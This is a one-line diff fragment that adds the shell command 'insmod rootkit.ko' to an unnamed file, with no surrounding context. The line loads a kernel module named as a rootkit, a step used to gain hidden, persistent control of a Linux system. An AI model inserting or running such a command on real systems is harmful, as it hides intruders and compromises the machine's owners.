@@ -1,0 +1,1 @@
+insmod rootkit.ko
